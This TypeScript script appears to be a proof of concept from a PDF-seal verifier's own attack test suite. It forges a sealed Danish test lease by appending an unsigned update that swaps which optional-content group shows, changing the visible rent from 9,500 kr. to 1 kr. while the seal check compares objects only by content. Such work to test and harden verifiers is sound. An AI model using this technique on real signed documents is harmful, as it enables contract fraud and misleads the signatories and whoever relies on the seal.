// O1: optional content swapped by identity under a comparison by content. A sealed document whose page 1 shows
// "Husleje: 9.500 kr." in OCG A and hides "Husleje: 1 kr." in OCG B (/OCProperties /D /OFF [B]), A and B two
// identical dictionaries (<< /Type /OCG /Name (Husleje) >>). A later revision (anyone's: no key) rewrites the
// catalog with /D /OFF [A]: seal-modifications compares /OCProperties by content (rules.ts compareDicts: a key
// without a rule that is not an IDENTITY_KEY passes when sameContent), and A and B have the same content, so the
// revision changes nothing for sealcheck. Every reader decides visibility by the OCG's identity: B shows, A hides.
//   npx tsx scripts/attack-s11/ocg-identity.ts <mode>
// modes: honest (the sealed archive as it is); swap (the catalog's /D /OFF [B] -> [A]); resources (page 1's
// /Resources /Properties moved to a new object naming the other OCG under each name: /ocA -> B, /ocB -> A);
// swap-dss (swap, plus a DSS in the same revision: an "LTV" update as augment writes one); copy-honest, copy (two
// different groups, B a white box and "1 kr."; the update names B', a new copy of B, in page 1's /Properties).
// AUGMENT=1: then `sealcheck augment` the result with the loopback TSA, and verify the renewed archive.
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRef, PDFString, StandardFonts } from "pdf-lib";
import { pki, save, show, tool, verify, work } from "../attack36/lib.js";
import { buildWorkflowEvidence, createWorkflowToken, evidenceAttachments } from "../generator/index.js";
import { mkdirSync, writeFileSync } from "node:fs";
import { appendIncrementalUpdate, loadForUpdate } from "../generator/incremental.js";
import { locateSignature, preparePades, sealPrepared } from "../generator/pdf.js";
import { pdfiumAndPdfjs, renderPage1 } from "./lib.js";
import { createOcspResponse } from "../generator/ocsp.js";
import { startTsa } from "../generator/servers.js";

const mode = process.argv[2] ?? "swap";
const MODES = ["honest", "swap", "resources", "swap-dss", "copy", "copy-honest", "switch", "widget-honest", "widget-swap"];
/** widget-*: the rent is drawn by two printable widgets of the original (their /AP), one per group (/OC). */
const widgets = mode.startsWith("widget");
if (!MODES.includes(mode)) throw new Error(`mode: ${MODES.join("|")}, not ${mode}`);
/** copy, copy-honest: two different groups (Husleje, Tillaeg); group B paints a white box over the rent and "1 kr.". */
const distinct = mode.startsWith("copy");

/** The original the workflow's initiator uploads: page 1 with the rent in two optional-content groups. */
async function ocgOriginal(): Promise<Uint8Array> {
  const doc = await PDFDocument.create({ updateMetadata: false });
  const ctx = doc.context;
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  const a = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of("Husleje") }));
  const b = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of(distinct ? "Tillaeg" : "Husleje") }));
  const lines = [
    "Lejekontrakt",
    "",
    "Udlejer: Sealcheck Test Ejendomme ApS",
    "Lejer: Karen Test Jensen og Lars Test Nielsen",
    "Lejemaal: Testvej 1, 1. th., 8000 Aarhus C",
  ];
  const ops = [
    ...lines.map((l, i) => `BT /F1 ${i === 0 ? 20 : 12} Tf 60 ${760 - i * 22} Td (${l}) Tj ET`),
    ...(widgets ? [] : ["/OC /ocA BDC BT /F1 12 Tf 60 650 Td (Husleje: 9.500 kr. pr. maaned) Tj ET EMC"]),
    widgets
      ? ""
      : distinct
        ? "/OC /ocB BDC 1 g 55 645 320 20 re f 0 g BT /F1 12 Tf 60 650 Td (Husleje: 1 kr. pr. maaned) Tj ET EMC"
        : "/OC /ocB BDC BT /F1 12 Tf 60 650 Td (Husleje: 1 kr. pr. maaned) Tj ET EMC",
    "BT /F1 12 Tf 60 606 Td ((Testdokument - ikke gyldigt)) Tj ET",
  ];
  page.node.set(PDFName.of("Contents"), ctx.register(ctx.flateStream(ops.join("\n"))));
  page.node.set(PDFName.of("Resources"), ctx.obj({ Font: { F1: font.ref }, Properties: { ocA: a, ocB: b } }));
  doc.catalog.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [a, b], D: { Order: [a, b], OFF: [b] } }));
  if (widgets) {
    const widget = (name: string, text: string, oc: PDFRef) => {
      const ap = ctx.register(
        ctx.stream(`BT /F1 12 Tf 5 5 Td (${text}) Tj ET`, { Type: "XObject", Subtype: "Form", BBox: [0, 0, 320, 20], Resources: { Font: { F1: font.ref } } }),
      );
      return ctx.register(
        ctx.obj({ Type: "Annot", Subtype: "Widget", FT: "Tx", T: PDFString.of(name), F: 4, Rect: [55, 645, 375, 665], AP: { N: ap }, OC: oc, P: page.ref }),
      );
    };
    page.node.set(PDFName.of("Annots"), ctx.obj([widget("rentA", "Husleje: 9.500 kr. pr. maaned", a), widget("rentB", "Husleje: 1 kr. pr. maaned", b)]));
  }
  return doc.save({ useObjectStreams: false });
}

const P = pki();
const base = await buildWorkflowEvidence({ pki: P });
const original = await ocgOriginal();
// The workflow's documents: the initiator's original with the two groups, and the sample's Husorden. The token (its
// PAdES copy) covers their SHA-256 as the broker's does; the originals folder written beside the archive holds them.
const documents = [{ title: "Lejekontrakt", bytes: original }, ...base.originals.slice(1).map((o) => ({ title: o.title, bytes: o.bytes }))];
const e = { ...base, padesToken: await createWorkflowToken({ signer: P.tokenSigner, documents, personalData: false }) };
// widget-*: the seal's widget on the signer page (page 3), so page 1 keeps the original's /Annots.
const prepared = await preparePades({ originals: documents.map((d) => d.bytes), attachments: evidenceAttachments(e), ...(widgets ? { widgetPage: 2 } : {}) });
// The broker's writer (iText 7) carries an original's optional content into the merged document; pdf-lib's
// copyPages keeps the page's /Properties but not the catalog's /OCProperties, so it is put back before sealing.
const pre = await loadForUpdate(prepared.bytes);
const props = pre.getPage(0).node.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("Properties"), PDFDict);
const A = props.get(PDFName.of("ocA")) as PDFRef;
const B = props.get(PDFName.of("ocB")) as PDFRef;
const ocProperties = (off: PDFRef) => pre.context.obj({ OCGs: [A, B], D: { Order: [A, B], OFF: [off] } });
const catalog0 = pre.catalog.clone(pre.context);
catalog0.set(PDFName.of("OCProperties"), ocProperties(B));
const rootRef = pre.context.trailerInfo.Root as PDFRef;
// The signature dictionary (placeholders) is written anew in that update, under a new number that the widget and
// /Perms name: a seal covers the revision that first defines it (the broker's file is one revision).
const sigDict = pre.context.lookup(PDFRef.of(prepared.sigObject)) as PDFDict;
const sigRef = pre.context.nextRef();
const widgetRef = pre
  .getPage(widgets ? 2 : 0)
  .node.lookup(PDFName.of("Annots"), PDFArray)
  .get(0) as PDFRef;
const widget = (pre.context.lookup(widgetRef) as PDFDict).clone(pre.context);
widget.set(PDFName.of("V"), sigRef);
catalog0.set(PDFName.of("Perms"), pre.context.obj({ DocMDP: sigRef }));
const withOc = appendIncrementalUpdate(prepared.bytes, {
  objects: [
    { num: rootRef.objectNumber, body: catalog0 },
    { num: widgetRef.objectNumber, body: widget },
    { num: sigRef.objectNumber, body: sigDict },
  ].sort((x, y) => x.num - y.num),
}).bytes;
const sealed = sealPrepared(locateSignature(withOc, sigRef.objectNumber), P);

let out = sealed;
if (!mode.endsWith("honest")) {
  const doc = await loadForUpdate(sealed);
  const ctx = doc.context;
  const objects: { num: number; body: PDFDict }[] = [];
  if (mode === "swap" || mode === "swap-dss" || mode === "switch") {
    // switch (the control, attack-s6's untried idea): the /OFF array's content changes ([B] -> []), which is seen.
    const c = doc.catalog.clone(ctx);
    c.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [A, B], D: { Order: [A, B], OFF: mode === "switch" ? [] : [A] } }));
    if (mode === "swap-dss") {
      const cert = ctx.register(ctx.stream(P.sealRoot.der));
      objects.push({ num: cert.objectNumber, body: ctx.lookup(cert) as never });
      c.set(PDFName.of("DSS"), ctx.obj({ Type: "DSS", Certs: ctx.obj([cert]) as PDFArray }));
    }
    objects.push({ num: rootRef.objectNumber, body: c });
  } else if (mode === "widget-swap") {
    // The two widgets rewritten with each other's group: /OC compared by content (twins), read by identity.
    const annots = doc.getPage(0).node.lookup(PDFName.of("Annots"), PDFArray);
    [0, 1].forEach((i) => {
      const ref = annots.get(i) as PDFRef;
      const w = (ctx.lookup(ref) as PDFDict).clone(ctx);
      w.set(PDFName.of("OC"), i === 0 ? B : A);
      objects.push({ num: ref.objectNumber, body: w });
    });
  } else if (mode === "copy") {
    // A new object with B's content: page 1's /Properties names it instead of B (nothing else changes).
    const page = doc.getPage(0);
    const copy = ctx.register((ctx.lookup(B) as PDFDict).clone(ctx));
    const res = page.node.lookup(PDFName.of("Resources"), PDFDict).clone(ctx);
    res.set(PDFName.of("Properties"), ctx.obj({ ocA: A, ocB: copy }));
    const resRef = ctx.register(res);
    const p = page.node.clone(ctx);
    p.set(PDFName.of("Resources"), resRef);
    objects.push(
      { num: copy.objectNumber, body: ctx.lookup(copy) as PDFDict },
      { num: resRef.objectNumber, body: res },
      { num: page.ref.objectNumber, body: p },
    );
  } else {
    const page = doc.getPage(0);
    const res = page.node.lookup(PDFName.of("Resources"), PDFDict).clone(ctx);
    res.set(PDFName.of("Properties"), ctx.obj({ ocA: B, ocB: A }));
    const resRef = ctx.register(res);
    const p = page.node.clone(ctx);
    p.set(PDFName.of("Resources"), resRef);
    objects.push({ num: resRef.objectNumber, body: res }, { num: page.ref.objectNumber, body: p });
  }
  out = appendIncrementalUpdate(sealed, { objects: objects.sort((x, y) => x.num - y.num) }).bytes;
}

const dir = work(`s11-ocg-${mode}`);
const file = save(dir, "archive.pdf", out);
console.log(`wrote ${file} (${mode}); sealed revision ends at ${sealed.length}, file ${out.length} bytes`);
const originals = `${dir}/originals`;
mkdirSync(originals);
for (const d of documents) writeFileSync(`${originals}/${d.title}.pdf`, d.bytes);
const v = verify(file, [], originals);
show(mode, v);
for (const c of v.report.checks.filter((c) => c.id === "document-digests")) console.log(`   ${c.id} ${c.status}: ${c.message.slice(0, 200)}`);
const m = v.report.checks.find((c) => c.id === "seal-modifications");
console.log(`   seal-modifications ${m?.status}: ${m?.message.slice(0, 300)}`);
const sig = tool("pdfsig", [file])
  .split("\n")
  .filter((l) => /Signature #|Validation|Total document/.test(l));
console.log(`== pdfsig: ${sig.join(" | ")}`);
const rent = (t: string) =>
  t
    .split("\n")
    .filter((l) => /Husleje/.test(l))
    .map((l) => l.trim())
    .join(" / ") || "(no rent line)";
console.log(`== pdftotext page 1: ${rent(tool("pdftotext", ["-f", "1", "-l", "1", "-layout", file, "-"]))}`);
console.log(`== qpdf --check: ${tool("qpdf", ["--check", file]).split("\n").slice(-1)[0]}`);
for (const l of pdfiumAndPdfjs(file, 400).filter((x) => /PDFium|pdf.js|p1:|not run/.test(x))) console.log(`== ${l.trim().slice(0, 260)}`);
console.log(`   page 1 rendered by PDFium and pdf.js: ${renderPage1(file, `${dir}/page1`)}`);
tool("pdftoppm", ["-f", "1", "-l", "1", "-r", "50", "-png", file, `${dir}/page`]);
console.log(`   page 1 rendered by pdftoppm: ${dir}/page-1.png`);
const orig = `${originals}/Lejekontrakt.pdf`;
console.log(`== the original as signed (${orig}), pdftotext: ${rent(tool("pdftotext", ["-layout", orig, "-"]))}`);

// AUGMENT=1: the archivist renews the archive as it finds it (augment with the loopback TSA and the TSA CA's current
// "good"): the archivist's own archive timestamp then covers the update.
if (process.env.AUGMENT === "1") {
  writeFileSync(
    `${dir}/tsa.ocsp`,
    createOcspResponse({ subject: P.tsa, issuer: P.tsaRoot, responder: P.tsaRoot, producedAt: new Date(Date.now() - 3600_000) }),
  );
  const tsa = await startTsa(P.tsa);
  try {
    const args = [
      "dist/cli/main.js",
      "augment",
      file,
      "--out",
      `${dir}/renewed.pdf`,
      "--tsa",
      tsa.url,
      "--trust",
      "samples/trust",
      "--ocsp",
      `${dir}/tsa.ocsp`,
    ];
    const out = await new Promise<string>((res) => {
      void import("node:child_process").then(({ execFile }) => execFile("node", args, { encoding: "utf8" }, (_e, so, se) => res(`${so}${se}`)));
    });
    console.log(`== sealcheck augment: ${out.trim().split("\n").slice(0, 4).join(" | ").slice(0, 500)}`);
  } finally {
    await tsa.close();
  }
  const r = verify(`${dir}/renewed.pdf`, [], originals);
  show("renewed", r);
  console.log(`== pdftotext page 1 of renewed.pdf: ${rent(tool("pdftotext", ["-f", "1", "-l", "1", "-layout", `${dir}/renewed.pdf`, "-"]))}`);
}
